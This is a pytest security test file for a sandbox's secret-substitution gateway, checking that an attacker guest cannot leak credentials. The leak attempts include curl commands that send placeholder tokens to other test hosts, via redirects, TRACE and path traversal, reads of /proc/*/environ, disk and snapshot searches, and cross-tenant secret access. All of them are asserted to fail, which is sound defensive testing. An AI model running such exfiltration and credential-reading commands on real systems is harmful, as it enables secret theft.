# SPDX-License-Identifier: Apache-2.0
"""Category 4: credential exfiltration. The attacker guest holds two
placeholders (conftest.py): TOK (placeholder mode: www.allowed.test, paths
/v1/) and API (header mode: api.allowed.test, Authorization: Bearer, GET and
POST). Every attempt tries to get a real value somewhere it can read or
send on: another host, plain HTTP, a body, a URL, a redirect, a reflected
TRACE, the guest's own memory and disk, a snapshot, the API.

What a server received is read from the fake internet's request log (a
server that echoed a value back would hand it to the guest itself)."""
import glob
import hashlib
import json
import os
import subprocess

import pytest

import secutil as su
from secutil import attempt, fn

ALLOW = [fn.WWW_ALLOWED, fn.API_ALLOWED, fn.WWW_OTHER]


@pytest.fixture
def sid(api, attacker):
    su.set_policy(api, attacker["id"], allow=ALLOW)
    yield attacker["id"]
    su.set_policy(api, attacker["id"], allow=[fn.WWW_ALLOWED])


@pytest.fixture(scope="module")
def values(world):
    return [world["values"]["tok"], world["values"]["api"], world["values"]["vsecret"]]


def leaked(values, *things):
    text = json.dumps(things)
    return [v for v in values if v in text]


def misplaced(values, reqs):
    """The values found in requests anywhere but where their binding puts
    them: API's header on GET/POST to api.allowed.test, TOK's placeholder
    in a header to www.allowed.test under /v1/ (a path without dot
    segments)."""
    tok, api_v = values[0], values[1]
    rest = []
    for r in reqs:
        host, path = (r.get("host") or "").split(":")[0], r["path"]
        hdrs = []
        for k, v in r["headers"]:
            if host == fn.API_ALLOWED and r["method"] in ("GET", "POST") and k.lower() == "authorization" \
                    and v == f"Bearer {api_v}":
                continue
            if host == fn.WWW_ALLOWED and path.startswith("/v1/") and "/." not in path and "%2e" not in path.lower() \
                    and tok in v and k.lower() not in ("host", "content-length", "transfer-encoding"):
                continue
            hdrs.append([k, v])
        rest.append([path, hdrs])
    return leaked(values, rest)


def header(req, name):
    vals = [v for k, v in req["headers"] if k.lower() == name.lower()]
    return vals[-1] if vals else None


def reqs_to(fakenet, host, prefix="/"):
    return [r for r in fakenet.http_requests() if (r.get("host") or "").split(":")[0] == host
            and r["path"].startswith(prefix)]


# ------------------------------------------------------------------ over the network

def test_placeholders_never_become_values_where_they_should_not(api, sid, attacker, fakenet, values):
    tok, api_ph = attacker["tok"], attacker["api"]

    with attempt("secrets", "unbound-host", "both placeholders in headers to an allowed host no secret names (HTTPS)"):
        fakenet.clear_logs()
        su.curls(api, sid, [f"-H \"X-Key: $TOK\" -H \"Authorization: Bearer $API\" https://{fn.WWW_OTHER}/v1/x"])
        r = reqs_to(fakenet, fn.WWW_OTHER)
        assert r and header(r[-1], "X-Key") == tok and header(r[-1], "Authorization") == f"Bearer {api_ph}", r
        assert not misplaced(values, fakenet.http_requests())

    with attempt("secrets", "plain-http", "placeholders over plain HTTP to their own bound hosts"):
        fakenet.clear_logs()
        su.curls(api, sid, [f"-H \"X-Key: $TOK\" http://{fn.WWW_ALLOWED}/v1/plain",
                            f"-H \"Authorization: Bearer $API\" http://{fn.API_ALLOWED}/plain"])
        assert header(reqs_to(fakenet, fn.WWW_ALLOWED, "/v1/")[-1], "X-Key") == tok
        assert header(reqs_to(fakenet, fn.API_ALLOWED)[-1], "Authorization") == f"Bearer {api_ph}"
        assert not misplaced(values, fakenet.http_requests())

    with attempt("secrets", "in-body", "placeholders in a POST body to the bound host"):
        fakenet.clear_logs()
        body = f"{tok} {api_ph}"
        code, out, err = su.sh(api, sid, f"printf '%s' \"$TOK $API\" > /tmp/b; {su.CURL} -s -X POST --data-binary @/tmp/b "
                                         f"-H \"X-Key: $TOK\" https://{fn.API_ALLOWED}/upload")
        got = json.loads(out)
        assert got["sha256"] == hashlib.sha256(body.encode()).hexdigest(), (got, out)
        req = reqs_to(fakenet, fn.API_ALLOWED, "/upload")[-1]
        assert header(req, "X-Key") == tok
        # The binding's own header carries its value (as designed); nothing else does.
        assert not leaked(values, [h for h in req["headers"] if h[0].lower() != "authorization"], req["path"])

    with attempt("secrets", "in-url", "placeholders in the query string and the path of a bound host's URL"):
        fakenet.clear_logs()
        su.curls(api, sid, [f"\"https://{fn.WWW_ALLOWED}/v1/q?key=$TOK&b=$API\"",
                            f"\"https://{fn.WWW_ALLOWED}/v1/$TOK/x\"", f"\"https://{fn.API_ALLOWED}/p/$API\""])
        paths = [r["path"] for r in fakenet.http_requests()]
        assert len(paths) == 3 and tok in paths[0] and tok in paths[1] and api_ph in paths[2], paths
        assert not misplaced(values, fakenet.http_requests())

    with attempt("secrets", "via-redirect", "a bound host redirects to another host; curl re-sends the header"):
        fakenet.clear_logs()
        target = f"https://{fn.WWW_OTHER}/landed"
        su.curls(api, sid, [f"-L --location-trusted -H \"Authorization: Bearer $API\" -H \"X-Key: $TOK\" "
                            f"'https://{fn.API_ALLOWED}/redirect?to={target}'"])
        landed = reqs_to(fakenet, fn.WWW_OTHER, "/landed")
        assert landed, fakenet.http_requests()
        assert header(landed[-1], "Authorization") == f"Bearer {api_ph}" and header(landed[-1], "X-Key") == tok
        assert not misplaced(values, fakenet.http_requests())

    with attempt("secrets", "bound-sni-other-host", "SNI of the bound host, Host of another, placeholder in a header"):
        fakenet.clear_logs()
        (rc, st), = su.curls(api, sid, [f"-H 'Host: {fn.WWW_OTHER}' -H \"X-Key: $TOK\" "
                                        f"https://{fn.WWW_ALLOWED}/v1/x"])
        assert st == 421, st
        assert not fakenet.http_requests()

    with attempt("secrets", "trace-reflection", "TRACE to the bound host (a server would reflect the substituted header)"):
        fakenet.clear_logs()
        code, out, err = su.sh(api, sid, f"{su.CURL} -s -w '\\n%{{http_code}}\\n' -X TRACE -H \"X-Key: $TOK\" "
                                         f"https://{fn.WWW_ALLOWED}/v1/t; {su.CURL} -s -w '\\n%{{http_code}}\\n' "
                                         f"-X TRACE -H \"Authorization: Bearer $API\" https://{fn.API_ALLOWED}/t")
        assert not leaked(values, out), out
        assert out.split().count("405") == 2, out
        assert not fakenet.http_requests()

    with attempt("secrets", "path-rules", "the bound host outside the secret's paths: /admin and /v1/../admin"):
        fakenet.clear_logs()
        su.curls(api, sid, [f"-H \"X-Key: $TOK\" https://{fn.WWW_ALLOWED}/admin/x",
                            f"--path-as-is -H \"X-Key: $TOK\" https://{fn.WWW_ALLOWED}/v1/../admin/y",
                            f"--path-as-is -H \"X-Key: $TOK\" https://{fn.WWW_ALLOWED}/v1/%2e%2e/admin/z",
                            f"-H \"X-Key: $TOK\" https://{fn.WWW_ALLOWED}/v1"])
        assert not misplaced(values, fakenet.http_requests()), fakenet.http_requests()
        assert reqs_to(fakenet, fn.WWW_ALLOWED, "/admin/"), fakenet.http_requests()

    with attempt("secrets", "method-rules", "the header-mode secret with DELETE, PUT and OPTIONS (it allows GET and POST)"):
        fakenet.clear_logs()
        su.curls(api, sid, [f"-X {m} -H \"Authorization: Bearer $API\" https://{fn.API_ALLOWED}/items/1"
                            for m in ("DELETE", "PUT", "OPTIONS")])
        rs = reqs_to(fakenet, fn.API_ALLOWED, "/items/")
        assert len(rs) == 3, fakenet.http_requests()
        assert not leaked(values, rs)  # no binding applies to these methods

    with attempt("secrets", "header-mode-other-header", "the header-mode placeholder in another header and a cookie"):
        fakenet.clear_logs()
        su.curls(api, sid, [f"-H \"X-Other: $API\" -H \"Cookie: s=$API\" https://{fn.API_ALLOWED}/h"])
        r = reqs_to(fakenet, fn.API_ALLOWED, "/h")[-1]
        assert header(r, "X-Other") == api_ph and api_ph in header(r, "Cookie"), r
        assert header(r, "Authorization") == f"Bearer {values[1]}"  # the binding's own header: as designed
        assert not misplaced(values, [r])

    with attempt("secrets", "second-request-other-path", "a kept-alive intercepted connection: /v1/ first, /admin second"):
        fakenet.clear_logs()
        su.sh(api, sid, f"{su.CURL} -s -o /dev/null -o /dev/null -H \"X-Key: $TOK\" "
                        f"https://{fn.WWW_ALLOWED}/v1/first https://{fn.WWW_ALLOWED}/admin/second")
        first = reqs_to(fakenet, fn.WWW_ALLOWED, "/v1/first")
        second = reqs_to(fakenet, fn.WWW_ALLOWED, "/admin/second")
        assert first and second, fakenet.http_requests()
        assert header(first[-1], "X-Key") == values[0]  # the binding applies where it should
        assert header(second[-1], "X-Key") == tok, second


# ------------------------------------------------------------------ the guest, the host, the API

def test_the_value_is_not_in_the_guest(api, sid, values):
    with attempt("secrets", "guest-env-proc", "read the values from env, /proc/*/environ, /proc/*/cmdline and the agent"):
        out = su.sh_ok(api, sid, "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'")
        assert "airlock-ph-" in out and not leaked(values, out)

    with attempt("secrets", "guest-disk", "search the guest's disk and tmpfs for the values"):
        # Prefixes only: the search itself must not hand a whole value to the
        # guest (or to the exec.start event that records its command line).
        prefixes = [v[:12] for v in values]
        out = su.sh_ok(api, sid, "grep -rlF -e " + " -e ".join(prefixes) + " /etc /run /tmp /var /root /usr/local "
                                 "/dev/shm 2>/dev/null; echo done", timeout=120)
        assert out.strip() == "done", out


def test_snapshot_and_restore(api, secd, attacker, fakenet, values):
    sid = attacker["id"]
    su.set_policy(api, sid, allow=ALLOW)
    # A substitution first, so the gateway has used the values recently.
    su.curls(api, sid, [f"-H \"X-Key: $TOK\" https://{fn.WWW_ALLOWED}/v1/warm"])
    r = api.request("POST", f"/v1/sandboxes/{sid}/snapshots", body={"name": "secrets-grep"})
    assert r.status == 201, r
    snap = r.json
    try:
        with attempt("secrets", "snapshot-files", "search a snapshot (memory, disk, metadata) and the whole state dir for the values"):
            needles = [v.encode() for v in values]
            hits = []
            for root in (secd.state_dir, os.path.dirname(secd.log_path)):
                for path in glob.glob(os.path.join(root, "**"), recursive=True):
                    if os.path.isfile(path) and not os.path.islink(path) and not path.endswith(".sock"):
                        if su.file_contains(path, needles):
                            hits.append(path)
            assert hits == [], hits
            assert os.path.getsize(os.path.join(secd.state_dir, "snapshots", snap["id"], "memory.bin")) > 1 << 20

        with attempt("secrets", "restored-placeholder", "a restore without grants uses the origin's placeholder (still in its memory)"):
            r = api.request("POST", "/v1/sandboxes", body={"snapshot": snap["id"]})
            assert r.status == 201, r
            rid = r.json["id"]
            try:
                assert r.json["secrets"] == [], r.json
                su.set_policy(api, rid, allow=ALLOW)
                fakenet.clear_logs()
                # The origin's placeholders, as the restored guest's memory holds them.
                code, out, err = su.sh(api, rid, f"{su.CURL} -s -o /dev/null -w '%{{http_code}}' "
                                                 f"-H 'X-Key: {attacker['tok']}' -H 'Authorization: Bearer {attacker['api']}' "
                                                 f"https://{fn.WWW_ALLOWED}/v1/restored; {su.CURL} -s -o /dev/null "
                                                 f"-H 'Authorization: Bearer {attacker['api']}' https://{fn.API_ALLOWED}/r")
                got = fakenet.http_requests()
                assert got and not leaked(values, got), got  # no binding in the copy: nothing anywhere
                assert header(reqs_to(fakenet, fn.WWW_ALLOWED, "/v1/restored")[-1], "X-Key") == attacker["tok"]
            finally:
                api.delete(rid)
    finally:
        api.request("DELETE", f"/v1/snapshots/{snap['id']}")
        su.set_policy(api, sid, allow=[fn.WWW_ALLOWED])


def test_the_api_never_shows_a_value(api, secd, attacker, tcp, world, values):
    sid = attacker["id"]
    with attempt("secrets", "inspect-and-list", "list and inspect secrets, the sandbox, its network, events and metrics"):
        seen = []
        for path in ("/v1/secrets", "/v1/secrets/tok", "/v1/secrets/api", "/v1/secrets/vsecret?tenant=victim",
                     f"/v1/sandboxes/{sid}", f"/v1/sandboxes/{sid}/network", "/v1/events?type=network.secret",
                     "/v1/events?type=secret.", "/metrics", "/v1/sandboxes?all=true"):
            r = api.request("GET", path)
            assert r.status == 200, r
            seen.append(r.raw.decode(errors="replace"))
        assert not leaked(values, seen)

    with attempt("secrets", "cli-inspect", "airlock secret ls, airlock inspect, airlock network, airlock logs --network"):
        outs = []
        for args in (["secret", "ls"], ["inspect", sid], ["network", sid], ["logs", "--network", sid]):
            p = subprocess.run([su.AIRLOCK, "--socket", secd.socket, *args], capture_output=True, text=True,
                               timeout=60)
            assert p.returncode == 0, (args, p.stderr)
            outs.append(p.stdout + p.stderr)
        assert not leaked(values, outs)

    mal = tcp["mallory"]
    with attempt("secrets", "tenant-secret-read", "as tenant mallory: read, list, delete tenant victim's secret"):
        assert mal.request("GET", "/v1/secrets/vsecret").status == 404
        assert mal.request("GET", "/v1/secrets/vsecret?tenant=victim").status in (403, 404)
        assert mal.request("DELETE", "/v1/secrets/vsecret?tenant=victim").status in (403, 404)
        r = mal.request("GET", "/v1/secrets")
        assert r.status == 200 and "vsecret" not in r.raw.decode() and "tok" not in json.dumps(r.json), r
        assert api.request("GET", "/v1/secrets/vsecret?tenant=victim").status == 200

    with attempt("secrets", "tenant-secret-write", "as tenant mallory: write tenant victim's secret (body tenant, same name)"):
        before = api.request("GET", "/v1/secrets/vsecret?tenant=victim").json
        r = mal.request("POST", "/v1/secrets", body={"name": "vsecret", "value": "mallory-value", "tenant": "victim",
                                                     "hosts": [fn.WWW_OTHER]})
        assert r.status == 403, r
        r = mal.request("POST", "/v1/secrets", body={"name": "vsecret", "value": "mallory-value",
                                                     "hosts": [fn.WWW_OTHER]})
        assert r.status == 201 and r.json["tenant"] == "mallory", r  # a secret of its own, same name
        assert api.request("GET", "/v1/secrets/vsecret?tenant=victim").json == before
        assert mal.request("DELETE", "/v1/secrets/vsecret").status == 204

    with attempt("secrets", "tenant-secret-grant", "as tenant mallory: create a sandbox granted tenant victim's and default's secrets"):
        for grant in ({"X": "vsecret"}, {"X": "tok"}):
            r = mal.request("POST", "/v1/sandboxes", body={"template": "minimal", "secrets": grant})
            assert r.status == 400, r
        r = api.request("POST", "/v1/sandboxes", body={"template": "minimal", "tenant": "mallory",
                                                       "secrets": {"X": "vsecret"}})
        assert r.status == 400, r
        assert not [s for s in api.list() if s["tenant"] == "mallory"]
